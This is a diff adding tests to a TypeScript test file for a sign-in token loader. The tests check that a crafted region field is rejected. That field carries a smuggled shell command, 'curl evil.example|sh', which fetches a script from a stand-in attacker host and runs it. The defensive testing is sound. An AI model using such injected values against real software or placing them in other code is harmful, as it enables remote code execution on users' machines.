@@ -1,7 +1,7 @@
 import { describe, expect, test } from "bun:test";
 import type { PortalChoice } from "../../src/identity/portal-choice.ts";
 import { openTokenPlace } from "../../src/identity/token-place.ts";
-import { importToken, portals } from "../../src/store/own-token-cache.ts";
+import { importToken, ownTokenPath, portals } from "../../src/store/own-token-cache.ts";
 import { failureOf } from "../support/failure.ts";
 import { fakeSystem } from "../support/fake-system.ts";
 import { memoryFiles } from "../support/memory-files.ts";
@@ -128,6 +128,27 @@ describe("a token that was given", () => {
     const files = memoryFiles({ "/t.json": JSON.stringify({ ...token, startUrl: "\u001b[2J" }) });
     const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
     expect((await open(choice, { files }).place).name).toBe("/t.json");
+  });
+});
+
+describe("a region that is none", () => {
+  const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
+  const message = (path: string) => `cannot use the region of the ${path}: `;
+
+  test("openTokenPlace() refuses it in a token file, which it names", async () => {
+    const files = memoryFiles({ "/t.json": JSON.stringify(crafted) });
+    const choice = { kind: "file", path: "/t.json", startUrl: undefined, region: undefined } as const;
+    const failure = await failureOf(() => open(choice, { files }).place);
+    expect(failure.message).toStartWith(message("token in /t.json"));
+  });
+
+  test("openTokenPlace() refuses it in the own cache, and names the file", async () => {
+    const files = memoryFiles();
+    await importToken(files, folder, startUrl, crafted, {});
+    const failure = await failureOf(
+      () => open({ kind: "own", startUrl, region: undefined }, { files }).place,
+    );
+    expect(failure.message).toStartWith(message(`sign-in in ${ownTokenPath(folder, startUrl)}`));
   });
 });
 
